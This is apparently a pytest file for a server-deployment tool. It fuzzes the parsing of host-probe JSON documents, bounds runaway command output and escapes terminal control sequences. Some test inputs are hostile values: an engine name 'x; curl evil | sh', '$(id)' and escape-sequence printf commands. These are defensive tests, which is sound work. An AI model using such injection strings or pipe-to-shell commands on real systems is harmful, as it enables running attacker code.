"""A host's answer is data: whatever it sends fails that host alone, within bounds."""

from __future__ import annotations

import contextlib
import copy
import io
import json
import math
import random
import time
from collections.abc import Callable, Iterator
from typing import Any

import gevent
import jsonschema
import pytest
from pyinfra.api import Config, Inventory, State, facts, operations
from pyinfra.api.exceptions import FactProcessError
from pyinfra.connectors import ssh, util
from pyinfra.context import ctx_host, ctx_state

from roles.engine.desired import changed_against_live
from roles.engine.venv import fact_of
from roles.host.managed import changes
from roles.remote import limits, program, shape, snapshot
from roles.remote.fits import fits
from roles.remote.snapshot import HostProbe
from roles.remote.upload import upload
from roles.stages.fitness import why_unfit
from roles.stages.lacks import full, notes
from roles.stages.preflight_check import in_the_way
from roles.switch.decision import decision_of, watch_reasons_of
from roles.switch.operations import plan_lines, seen, way_back
from roles.switch.proof import invocation, proved_by
from sglangctl.preflight.text import sentence
from tests.support.blocked_host import FOUND, whole_engine

SEED = 20261130
ODD: tuple[Any, ...] = (
    *(None, True, 0, -1, 3, 10**40, 1e308, "", "x", "0", "cp3", "\x1b[31m", "\ud800", "9999-99-99"),
    *("2026-11-29", "x" * 70_000, [], {}, [None], [[]], [{}], {"pids": None}, {"kind": "file"}),
)


def engine_part() -> dict[str, Any]:
    return {
        "unit": {"ActiveState": "active", "UnitFileState": "enabled", "InvocationID": "a1"},
        "watch": {"ActiveState": "active", "UnitFileState": "static", "started": 1.5e9},
        "replaces": {},
        "releases": {"current": "abc", "previous": None, "known_good": "abc", "staged": ["abc"]},
        "state": {"phase": "committed", "time": "2026-11-29T12:00:00Z", "foreign": ["x"]},
        "state_reason": None,
        "last": {"start": "1-a1", "outcome": "ready", "stopped_by": None, "evidence": []},
    }


def whole(files: list[str]) -> dict[str, Any]:
    """A document in which every part is there."""
    kinds: list[dict[str, Any]] = [
        {"kind": "file", "sha256": "0" * 64, "text": "[Unit]\n"},
        {"kind": "directory"},
        {"kind": "absent"},
    ]
    rights = {"mode": "0644", "owner": "root", "group": "root", "mtime": 1.7e9}
    step = {"unit": "vllm.service", "pids": [4, 5]}
    return {
        "v": 1,
        "time": "2026-11-29T12:00:00Z",
        "uid": 0,
        "program": "abc",
        "systemd": "252",
        "files": {path: {**kinds[n % 3], **rights} for n, path in enumerate(files)},
        "users": {"sglang": {"uid": 998, "group": "sglang"}, "kimi": None},
        "gpus": [{"index": 0}],
        "lock": {"pid": 1, "sentence": "a switch runs", "engine": "e"},
        "listening": [{"port": 8000, "address": "::", "owners": [{"pid": 4, "name": "sshd"}]}],
        "engines": {"e": engine_part()},
        "plans": {
            "e": {
                "refused": [],
                "lines": ["stop vllm.service"],
                "units_to_stop": [step],
                "containers_to_stop": [step],
                "processes_to_end": [{"pid": 9}],
                "before": {"rollback": True, "units": ["vllm.service"], "by_hand": [9]},
            }
        },
        "stops": {"e": {"lines": ["stop x"], "refused": None}},
        "removals": {"e": {"lines": ["remove /x"], "refused": None}},
        "kernels": {
            "e": {
                "venv": "/v",
                "sm": "120",
                "machine": "x86_64",
                "python": "cp312",
                "torch": "2.9",
                "cuda": "13.0",
                "required": ["sglang-kernel", "0.4"],
                "pinned": ["sglang-kernel", "0.4"],
                "checked": None,
                "cuobjdump": None,
                "cached": ["k"],
                "problems": ["p"],
                "installed": {"verdict": "usable", "reason": "r", "version": "0.4", "key": None},
            }
        },
        "preflight": {"e": FOUND},
        "reasons": {"systemd": "no"},
    }


def places(value: Any, where: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if where:
        yield where
    if isinstance(value, (dict, list)):
        for key, item in value.items() if isinstance(value, dict) else enumerate(value):
            yield from places(item, (*where, key))


def mutated(random_: random.Random, document: dict[str, Any]) -> str:
    """The document's text with one to four things wrong."""
    document = copy.deepcopy(document)
    for _ in range(random_.randint(1, 4)):
        where = random_.choice(list(places(document)))
        at: Any = document
        for key in where[:-1]:
            at = at[key]
        roll = random_.randrange(4)
        if roll == 0:
            del at[where[-1]]
        elif roll == 1:
            at[where[-1]] = [at[where[-1]]]
        else:
            at[where[-1]] = copy.deepcopy(random_.choice(ODD))
    text = json.dumps(document)
    roll = random_.randrange(40)
    if roll == 0:
        return text[: random_.randrange(len(text))]
    if roll == 1:
        return text.replace(": 0", f": {random_.choice(['NaN', '1e999', '-Infinity', '9' * 5000])}")
    if roll == 2:
        depth = random_.choice((100, 5000, 200_000))
        return text.replace('"lines": ', '"lines": ' + "[" * depth + "]" * depth + ', "x": ', 1)
    return text


def consumers() -> tuple[dict[str, Any], list[Callable[[dict[str, Any]], object]]]:
    """The request of a deploy, and everything that reads a document of it before it is executed."""
    engine = whole_engine("tensor_parallel: 2\ndrafter: {path: /d}\n")
    managed = (*engine.managed, engine.config, *engine.unit_files.values())
    files = [item.path for item in (*managed, *engine.live_files.values())]
    files += ["/m", "/d", engine.venv.path]
    decide, watch = decision_of(engine), watch_reasons_of(engine, managed)
    return dict.fromkeys(["files"], dict.fromkeys(files)), [
        decide,
        watch,
        lambda facts: [sentence(one) for one in in_the_way(facts, engine, decide)],
        lambda facts: why_unfit(facts, "sglang"),
        lambda facts: changes(managed, facts["files"]),
        lambda facts: changed_against_live(engine, facts),
        lambda facts: fact_of(engine.venv, facts),
        lambda facts: full(facts.get("disks") or {}),
        lambda facts: notes(facts, ["strict"]),
        lambda facts: seen(facts, "e"),
        lambda facts: "\n".join(plan_lines(facts, "e")),
        lambda facts: "\n".join(way_back(facts, "e", "a")),
        lambda facts: "\n".join(snapshot.engine_facts(facts, "e", "stops").get("lines") or []),
        lambda facts: proved_by(snapshot.engine_facts(facts, "e"), True),
        lambda facts: invocation(snapshot.engine_facts(facts, "e")),
        lambda facts: (facts["users"].get("sglang") or {}).get("group"),
        lambda facts: facts.get("lock") and f"{facts['lock']['sentence']}",
    ]


@pytest.mark.timeout(600)  # on a machine that is busy
@pytest.mark.parametrize("rounds", [200, pytest.param(10_000, marks=pytest.mark.slow)])
def test_mutated_documents(rounds: int) -> None:
    request, reads = consumers()
    good = whole(list(request["files"]))
    random_ = random.Random(SEED)
    took = refused = 0
    for text in (json.dumps(good), *(mutated(random_, good) for _ in range(rounds))):
        try:
            document = HostProbe().process(text.split("\n"))
        except FactProcessError as error:
            assert len(str(error)) < 500
            refused += 1
            continue
        if snapshot.answers(document, request):
            took += 1
            for read in reads:
                read(document)
    assert took > rounds / 20 and refused > rounds / 3
    assert HostProbe().process([json.dumps(good)]) == good


@pytest.mark.parametrize("rounds", [100, pytest.param(5_000, marks=pytest.mark.slow)])
def test_the_quick_look_at_a_document_agrees_with_jsonschema(rounds: int) -> None:
    good = whole([item.path for item in whole_engine("").managed])
    random_ = random.Random(SEED)
    found = {True: 0, False: 0}
    for text in (json.dumps(good), *(mutated(random_, good) for _ in range(rounds))):
        with contextlib.suppress(shape.WrongShape):
            document = shape.parsed(text)
            right = shape.PROBE.is_valid(document)
            assert fits(document, shape._PROBE) == right, text
            found[right] += 1
    assert min(found.values()) > rounds / 20


@pytest.mark.parametrize("schema", [{"const": 1}, {"enum": [0, 1]}, {"type": "integer"}])
@pytest.mark.parametrize("value", [True, False, 1, 1.0, 1.5, 0, "1", None, [1]])
def test_the_quick_look_at_numbers_agrees_too(schema: dict[str, Any], value: object) -> None:
    assert fits(value, schema) == jsonschema.Draft202012Validator(schema).is_valid(value)


def test_every_word_of_a_shape_is_looked_at() -> None:
    with pytest.raises(KeyError):
        fits({}, {"minProperties": 1})


@pytest.mark.parametrize(
    "text",
    [
        "[" * 200_000,
        '{"v": ' + "[" * 200_000 + "]" * 200_000 + "}",
        '{"v": 1e999}',
        '{"v": NaN}',
        '{"v": ' + "9" * 5000 + "}",
    ],
)
def test_json_that_no_probe_writes(text: str) -> None:
    with pytest.raises(FactProcessError, match="with JSON"):
        HostProbe().process([text])


@pytest.mark.slow
def test_more_parts_than_a_probe_has() -> None:
    """16 MB in the right shape took 50 to 100 s of the controller, in which all hosts waited."""
    good = whole([])
    for many in (
        {"users": {f"u{n}": None for n in range(200_000)}},
        {"plans": {"e": {"lines": [""] * 200_000}}},
        {"files": {f"/{n}": {"kind": "absent"} for n in range(200_000)}},
    ):
        began = time.monotonic()
        with pytest.raises(FactProcessError, match="parts"):
            HostProbe().process([json.dumps({**good, **many})])
        assert time.monotonic() - began < 5
    plans = {"e": {"units_to_stop": [{"pids": list(range(65_536))}]}}
    assert HostProbe().process([json.dumps({**good, "plans": plans})])["plans"] == plans


@pytest.mark.parametrize(
    "names", [["x; curl evil | sh"], ["a\n"], ["$(id)"], [f"e{n}" for n in range(300)]]
)
def test_engines_that_are_none(names: list[str]) -> None:
    """A plan prints a command with each that the inventory does not have, to be copied."""
    document = {**whole([]), "engines": dict.fromkeys(names, engine_part())}
    with pytest.raises(FactProcessError, match="engines"):
        HostProbe().process([json.dumps(document)])


@pytest.mark.parametrize("text", ["never", "", "2026-13-01T00:00:00Z", "0001-01-01T00:00:00Z"])
def test_wrong_times(text: str) -> None:
    document = {**whole([]), "time": text}
    with pytest.raises(FactProcessError, match="no time"):
        HostProbe().process([json.dumps(document)])


def test_a_document_that_lacks_what_was_asked_for() -> None:
    request = {"files": {"/a": None}}
    assert snapshot.answers(whole(["/a"]), request)
    assert not snapshot.answers(whole([]), request)
    assert not snapshot.answers({"program_is_absent": True}, request)


class Endless(io.RawIOBase):
    """A pipe that gives the same piece for ever, and counts."""

    def __init__(self, piece: bytes) -> None:
        self.piece, self.given = piece, 0

    def readline(self, size: int | None = -1, /) -> bytes:
        self.given += len(self.piece)
        assert self.given < 4 * limits.OUTPUT_LIMIT, "it is read without end"
        return self.piece


@pytest.mark.parametrize("piece", [b"x" * limits.PIECE, b"\n", b"line\n"])
def test_endless_output_is_cut(piece: bytes) -> None:
    pipe = Endless(piece)
    stream = limits.Bounded(pipe, error=False)
    kept = sum(len(line) for line in stream)
    assert stream.exceeded and pipe.closed
    assert kept <= limits.OUTPUT_LIMIT and pipe.given <= limits.OUTPUT_LIMIT + limits.PIECE


def test_bytes_that_are_no_text() -> None:
    assert list(limits.Bounded(io.BytesIO(b"a\xff\nb"), error=False)) == ["a\\xff\n", "b"]


@pytest.fixture
def bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """pyinfra with our bounds, until the test is over."""
    for module, name in (
        (util, "read_output_buffers"),
        (util, "read_buffer"),
        (ssh, "read_output_buffers"),
        (util, "write_stdin"),
        (ssh, "write_stdin"),
        (facts, "print_host_combined_output"),
        (operations, "print_host_combined_output"),
    ):
        monkeypatch.setattr(module, name, getattr(module, name))
    limits.guard()


@pytest.mark.usefixtures("bounded")
def test_a_command_that_never_ends_printing_ends() -> None:
    began = time.monotonic()
    with pytest.raises(limits.TooMuchOutput, match="more than"):
        util.run_local_process("yes hello", timeout=60)
    assert time.monotonic() - began < 30


@pytest.mark.usefixtures("bounded")
def test_a_command_that_does_not_read_what_it_is_given_ends(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(limits, "STALL_S", 0.3)
    began = time.monotonic()
    with pytest.raises(limits.NotRead, match="stopped reading"):
        util.run_local_process("exec sleep 8", stdin=["x" * 10**6])
    assert time.monotonic() - began < 5


def test_a_slow_command_that_reads_is_waited_for(monkeypatch: pytest.MonkeyPatch) -> None:
    class Slow(io.BytesIO):
        def write(self, data: Any) -> int:
            gevent.sleep(0.05)
            return super().write(data)

        def close(self) -> None:
            assert self.getvalue() == b"x" * (limits.PIECE * 9) + b"\nz\n"

    monkeypatch.setattr(limits, "STALL_S", 0.3)
    limits.write_stdin(["x" * (limits.PIECE * 9), "z"], Slow())


def test_an_upload_has_a_limit_for_its_answer() -> None:
    assert upload("/x", b"y", "0644").connector_arguments["_timeout"] == limits.FACT_S


@pytest.mark.usefixtures("bounded")
def test_what_is_printed_has_its_control_characters_written_out(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    printed: list[str] = []
    monkeypatch.setattr(limits, "echo", lambda text, err: printed.append(text))
    status, output = util.run_local_process(
        "printf '\\033[2Jout\\n'; printf '\\033]0;evil\\007err\\n' >&2; exit 3",
        timeout=60,
        print_output=True,
        print_prefix="[h] ",
    )
    assert status == 3
    assert output.stdout_lines == ["\x1b[2Jout"]  # kept for whom it is data
    assert output.stderr_lines == ["\\x1b]0;evil\\x07err"]
    assert len(printed) == 2 and not any("\x1b" in line for line in printed)


@pytest.mark.usefixtures("bounded")
def test_one_hostile_host_and_another(monkeypatch: pytest.MonkeyPatch) -> None:
    """End to end through pyinfra's facts: the one fails, the other's document is had."""
    state = State(Inventory((["@local", "another"], {})), Config())
    target, another = state.inventory.get_host("@local"), state.inventory.get_host("another")
    target.connect()
    good = json.dumps(whole([]))
    answers = {
        "a": f"printf '%s' '{good}'",
        "b": "yes",
        "c": "printf '\\033[2J' >&2; exit 1",
        "d": f"printf '%s' '{good.replace('2026', 'x')}'",
        "e": "printf '[[[[' ",
    }
    monkeypatch.setattr(program, "path", lambda: "/nowhere")
    for name, command in answers.items():
        monkeypatch.setattr(
            HostProbe, "command", lambda self, from_input=False, command=command: command
        )
        state.failed_hosts.clear()
        state.active_hosts = {target, another}
        with ctx_state.use(state), ctx_host.use(target):
            document = snapshot.read()
        failed = target in state.failed_hosts
        assert failed == (name != "a"), name
        assert another in state.active_hosts, name
        assert (document is not None) == (name == "a"), name


def test_numbers_are_finite() -> None:
    assert shape.parsed("1.5") == 1.5 and math.isfinite(shape.parsed("1e10"))
